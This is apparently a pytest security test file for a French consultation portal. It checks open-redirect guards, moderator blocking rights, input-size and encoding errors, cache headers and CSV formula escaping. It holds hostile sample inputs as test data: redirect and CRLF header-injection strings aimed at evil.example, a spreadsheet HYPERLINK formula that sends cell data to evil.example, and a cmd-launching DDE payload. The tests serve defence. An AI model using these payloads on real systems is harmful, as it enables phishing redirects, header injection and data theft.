"""Issue 19's findings 2, 3, 4, 10 (non-PDF), 11 and 15, each through HTTP on both databases.

The register's own findings (1: links, and its side of 4 and 15) are also exercised in
tests/registry/test_registry_security.py; docs/security.md maps every finding to its tests.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.engine import Engine
from starlette.testclient import TestClient

from portal import csvout
from portal.consultation.moderation.models import Block
from portal.consultation.moderation.services import block_user
from portal.consultation.opendata import services as opendata
from portal.db import session_scope
from portal.registry.models import System
from portal.settings import Settings
from portal.web.cache import CachedPage, PageCache
from tests.factories import (
    MakeUser,
    add_comment,
    add_proposal,
    consultation,
    email_of,
    register_entries,
)
from tests.helpers import HX, assert_statuses, csrf_token, post

EVIL_NEXTS = [
    "/\t/evil.example",
    "//evil.example",
    "/\\evil.example",
    "/%2F/evil.example",
    "/%2f%2fevil.example",
    "/%5Cevil.example",
    "/%09/evil.example",
    "/%252F/evil.example",
    "/ /evil.example",
    "https://evil.example",
    "javascript:alert(1)",
    "/\x0b/evil.example",
    "/\r\nSet-Cookie: pwned=1",
    "/%0d%0aSet-Cookie:%20pwned=1",
    "/%FF",
]


def _lang(client: TestClient, next_url: str, **kw: Any) -> Any:
    return post(client, "/lang", {"lang": "fr", "next": next_url}, form_page="/", **kw)


# --- 2. next= is a local path, for Location and HX-Redirect alike ------------------------------


@pytest.mark.parametrize("next_url", EVIL_NEXTS)
def test_lang_never_redirects_off_site(client: TestClient, next_url: str) -> None:
    """POST /lang with a hostile `next` goes home, in Location (303) and HX-Redirect (204) alike."""
    plain = _lang(client, next_url, follow_redirects=False)
    assert (plain.status_code, plain.headers["location"]) == (303, "/")
    htmx = _lang(client, next_url, headers=HX, follow_redirects=False)
    assert (htmx.status_code, htmx.headers["hx-redirect"]) == (204, "/")


def test_a_local_next_is_kept(client: TestClient) -> None:
    """A path of the site (with a query and non-ASCII text) is followed, percent-encoded."""
    response = _lang(client, "/registry?q=accès", follow_redirects=False)
    assert (response.status_code, response.headers["location"]) == (303, "/registry?q=acc%C3%A8s")


def test_login_never_redirects_off_site(
    client: TestClient, make_user: MakeUser, engine: Engine
) -> None:
    """The login form's `next` goes through the same check: an encoded // sends home."""
    user_id = make_user()
    token = csrf_token(client, "/login")
    response = client.post(
        "/login",
        data={
            "email": email_of(engine, user_id),
            "password": "une phrase de passe de test",
            "next": "/%2F/evil.example",
            "csrf_token": token,
        },
        follow_redirects=False,
    )
    assert (response.status_code, response.headers["location"]) == (303, "/")


@pytest.mark.parametrize("next_url", ["/\r\nSet-Cookie: pwned=1", "/\x0b/evil.example", "/\t//x"])
def test_control_characters_in_next_do_not_drop_the_connection(
    live_server: str, next_url: str
) -> None:
    """Over a real socket, a `next` with CR LF or a vertical tab gets a 303 home, not a reset."""
    with httpx.Client(base_url=live_server) as c:
        token = re.search(r'name="csrf_token" value="([^"]+)"', c.get("/").text)
        assert token
        response = c.post(
            "/lang", data={"lang": "fr", "next": next_url, "csrf_token": token.group(1)}
        )
    assert (response.status_code, response.headers["location"]) == (303, "/")
    assert "pwned" not in str(response.headers)


# --- 3. a moderator blocks residents; only an admin blocks staff -------------------------------

ACTORS = ["resident", "agent", "official", "moderator", "admin"]
TARGETS = ["resident", "agent", "moderator", "official", "admin"]


def _block_status(make_user: MakeUser, login_as: Any, actor: str, target: str) -> int:
    client = login_as(*([] if actor == "resident" else [actor]))
    target_id = make_user(*([] if target == "resident" else [target]))
    response = post(
        client, f"/moderation/users/{target_id}/block", {"reason": "spam", "note": ""},
        form_page="/", follow_redirects=False,
    )  # fmt: skip
    return int(response.status_code)


def test_who_may_block_whom(make_user: MakeUser, login_as: Any, engine: Engine) -> None:
    """Each pair of roles: a moderator blocks residents only; an admin blocks anyone else."""
    expected = {
        (actor, target): (
            303 if actor == "admin" or (actor == "moderator" and target == "resident") else 403
        )
        for actor in ACTORS
        for target in TARGETS
    }
    observed = {cell: _block_status(make_user, login_as, *cell) for cell in expected}
    assert_statuses(expected, observed)
    with session_scope(engine, write=False) as s:
        blocks = len(list(s.scalars(select(Block))))
    assert blocks == sum(1 for status in expected.values() if status == 303)


def test_a_moderator_cannot_unblock_staff(
    make_user: MakeUser, login_as: Any, engine: Engine
) -> None:
    """Lifting a block on an official is an admin's decision too: a moderator gets 403."""
    admin, official = make_user("admin"), make_user("official")
    with session_scope(engine) as s:
        block_user(s, user_id=official, moderator_id=admin, reason="spam")
    moderator = login_as("moderator")
    response = post(
        moderator, f"/moderation/users/{official}/unblock", {}, form_page="/",
        follow_redirects=False,
    )  # fmt: skip
    assert response.status_code == 403


# --- 4. a block stops every kind of user text ---------------------------------------------------


@pytest.fixture
def blocked_world(engine: Engine, settings: Settings, make_user: MakeUser) -> dict[str, Any]:
    """The open consultation, the register, a comment to reply to and a proposal."""
    accounts = consultation(engine, settings, make_user)
    slugs = register_entries(engine, accounts["agent"])
    proposal = add_proposal(engine, author_id=accounts["agent"])
    comment = add_comment(engine, author_id=accounts["agent"], slug="contact-humain")
    return {"slug": slugs[0], "proposal": proposal, "comment": comment}


KINDS = ["comment", "reply", "proposal", "proposal comment", "register question"]


def _write(client: TestClient, kind: str, world: dict[str, Any]) -> int:
    body = "Un texte assez long pour passer les contrôles de longueur."
    requests = {
        "comment": ("/charter/clauses/4/comments", {"body": body}),
        "reply": ("/charter/clauses/4/comments", {"body": body, "parent_id": world["comment"]}),
        "proposal": (
            "/charter/proposals",
            {
                "title": "Un numéro direct",
                "body": body,
                "rationale": body,
                "kind": "amend",
                "clause_number": "4",
            },
        ),
        "proposal comment": (f"/charter/proposals/{world['proposal']}/comments", {"body": body}),
        "register question": (
            f"/registry/{world['slug']}/questions",
            {"body": body, "kind": "question"},
        ),
    }
    path, data = requests[kind]
    return int(post(client, path, data, form_page="/", follow_redirects=False).status_code)


@pytest.mark.parametrize("kind", KINDS)
def test_a_blocked_person_writes_nothing(
    kind: str, blocked_world: dict[str, Any], login_as: Any, make_user: MakeUser, engine: Engine
) -> None:
    """A blocked person gets 403 on every kind of text (one not blocked gets 303); proposals
    are an agent's, so there an admin blocks an agent."""
    roles, blocker = (
        (["agent"], make_user("admin")) if kind == "proposal" else ([], make_user("moderator"))
    )
    free, blocked = login_as(*roles), login_as(*roles)
    with session_scope(engine) as s:
        block_user(s, user_id=blocked.user_id, moderator_id=blocker, reason="spam")
    assert _write(free, kind, blocked_world) == 303
    assert _write(blocked, kind, blocked_world) == 403


# --- 10. bad input answers 400/404/413, never a server error ------------------------------------

HUGE = "9" * 30


@pytest.mark.parametrize(
    ("path", "status"),
    [
        (f"/registry?page={HUGE}", 400),
        (f"/api/registry/systems?page={HUGE}", 400),
        (f"/charter/clauses/4?page={HUGE}", 400),
        (f"/charter/proposals?page={HUGE}", 400),
        ("/charter/clauses/4?page=99999", 200),
        (f"/consultation/synthesis?version={HUGE}", 400),
        (f"/consultation/synthesis.json?version={HUGE}", 400),
        (f"/consultation/synthesis.csv?version={HUGE}", 400),
        (f"/charter/diff?from={HUGE}&to=1", 400),
        (f"/charter/diff?from=1&to={HUGE}", 400),
        (f"/charter/diff?from=1&to={'9' * 5000}", 400),
        (f"/charter/v/{HUGE}", 404),
        (f"/charter/v/{'9' * 5000}", 404),
        ("/charter/v/9999999999999999999", 404),
        (f"/charter/proposals/{'9' * 5000}", 404),
        (f"/charter/clauses/{HUGE}", 404),
        (f"/charter/proposals/{HUGE}", 404),
        (f"/api/registry/systems?page=-{HUGE}", 400),
    ],
)
def test_huge_numbers_are_not_server_errors(
    client: TestClient, engine: Engine, settings: Settings, make_user: MakeUser, path: str,
    status: int,
) -> None:  # fmt: skip
    """A number beyond 64 bits in a page, a version or a diff bound gets a clear 400/404."""
    consultation(engine, settings, make_user)
    response = client.get(path)
    assert response.status_code == status, response.text[:300]
    if path.startswith("/api/") and status >= 400:
        assert response.json()["error"]["status"] == status


def test_a_huge_page_of_the_admin_list_is_a_bad_request(login_as: Any) -> None:
    """A page number whose offset overflows the database's integers is a 400, not a 500."""
    admin = login_as("admin")
    assert admin.get("/admin/users?page=1000000000000000000").status_code == 400


@pytest.mark.parametrize("raw", ["%FF", "%C0%AF", "%ED%A0%80", "%E9t%E9"])
def test_bad_bytes_in_a_query_are_refused(client: TestClient, raw: str) -> None:
    """Bytes that are not UTF-8 in a query get a 400: a French page, JSON under /api/."""
    page = client.get(f"/registry?q={raw}")
    assert page.status_code == 400
    assert "UTF-8" in page.text and page.headers["content-type"].startswith("text/html")
    api = client.get(f"/api/registry/systems?q={raw}")
    assert api.status_code == 400 and api.json()["error"]["status"] == 400


@pytest.mark.parametrize("raw", [b"%FF", b"%C0%AF", b"%ED%A0%80", b"\xff"])
def test_bad_bytes_in_a_form_are_refused(client: TestClient, raw: bytes) -> None:
    """A url-encoded form holding bytes that are not UTF-8 gets a 400 page."""
    token = csrf_token(client, "/")
    response = client.post(
        "/lang",
        content=b"lang=fr&next=/" + raw + b"&csrf_token=" + token.encode(),
        headers={"content-type": "application/x-www-form-urlencoded"},
        follow_redirects=False,
    )
    assert response.status_code == 400
    assert "UTF-8" in response.text


def test_a_19_mb_form_gets_a_413_page(live_server: str) -> None:
    """Over a real socket, a 19 MB url-encoded body is answered 413 (a French page), no reset."""
    body = b"lang=fr&next=/" + b"a" * (19 * 1024 * 1024)
    with httpx.Client(base_url=live_server, timeout=60) as c:
        response = c.post(
            "/lang", content=body, headers={"content-type": "application/x-www-form-urlencoded"}
        )
    assert response.status_code == 413
    assert "Envoi trop volumineux" in response.text


# --- 11. cache headers ---------------------------------------------------------------------------


def _vary(response: Any) -> set[str]:
    return {v.strip().lower() for v in response.headers.get("vary", "").split(",")}


@pytest.mark.parametrize("path", ["/", "/registry", "/accessibilite", "/login"])
def test_anonymous_pages_are_private_and_vary(client: TestClient, path: str) -> None:
    """Anonymous pages (first render and cached copy) are private and vary on cookie and language."""
    for _round in range(2):  # the second answer of a cached route comes from the page cache
        response = client.get(path)
        assert response.status_code == 200
        assert response.headers["cache-control"] == "private, no-cache"
        assert {"cookie", "accept-language"} <= _vary(response)


@pytest.mark.parametrize(
    ("path", "status"),
    [("/", 200), ("/registry", 200), ("/account", 200), ("/no-such-page", 404),
     ("/registry/no-such-entry", 404), ("/moderation", 403)],
)  # fmt: skip
def test_pages_for_a_signed_in_person_are_never_stored(
    login_as: Any, path: str, status: int
) -> None:
    """Every page shown to a signed-in person, error pages included, is `private, no-store`."""
    response = login_as().get(path)
    assert response.status_code == status
    assert response.headers["cache-control"] == "private, no-store"
    assert {"cookie", "accept-language"} <= _vary(response)


def test_anonymous_error_pages_are_not_stored(client: TestClient) -> None:
    """A 404 and a 405 are `private, no-store` for anyone (they carry the visitor's token)."""
    assert client.get("/no-such-page").headers["cache-control"] == "private, no-store"
    assert client.get("/lang").headers["cache-control"] == "private, no-store"


def test_the_page_cache_never_stores_a_set_cookie() -> None:
    """PageCache.put refuses a page carrying a Set-Cookie header, whoever hands it over."""
    cache = PageCache()
    page = CachedPage(
        expires_at=float("inf"), status=200, segments=(b"<p>hi</p>",), media_type="text/html",
        headers=((b"set-cookie", b"portal_session=someone"),),
    )  # fmt: skip
    cache.put(("/", "", "fr"), page)
    assert cache.get(("/", "", "fr")) is None


# --- 15. one CSV writer, formulas defused --------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "supplier": "+33 1 41 18 19 20",
    "hosting": "-2+3",
    "service": "\t=1+1",
}


def test_the_registry_csv_defuses_formulas(
    client: TestClient, engine: Engine, make_user: MakeUser
) -> None:
    """Register cells starting with = @ + - or a tab go out with a leading apostrophe."""
    slug = register_entries(engine, make_user("agent"))[0]
    with session_scope(engine) as s:
        system = s.scalar(select(System).where(System.slug == slug))
        assert system is not None
        data = dict(system.data or {})
        data["name"], data["summary"] = FORMULAS["name"], FORMULAS["summary"]
        data["supplier"] = {**data["supplier"], "name": FORMULAS["supplier"]}
        data["hosting"] = {**data["hosting"], "location": FORMULAS["hosting"]}
        data["service"] = {**data["service"], "name": FORMULAS["service"]}
        system.data = data
    response = client.get("/registry/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["slug"] == slug)
    cells = {
        "name": row["name"], "summary": row["summary"], "supplier": row["supplier"],
        "hosting": row["hosting"], "service": row["service"],
    }  # fmt: skip
    assert cells == {k: "'" + v for k, v in FORMULAS.items()}


def test_every_export_uses_the_one_csv_writer() -> None:
    """The consultation's export and the register's export write through portal/csvout.py."""
    from portal.registry import routes as registry_routes

    assert opendata.write_rows is csvout.write_rows
    assert registry_routes.write_rows is csvout.write_rows
    assert csvout.cell("=1+1") == "'=1+1" and csvout.cell(-3) == -3 and csvout.cell(None) == ""
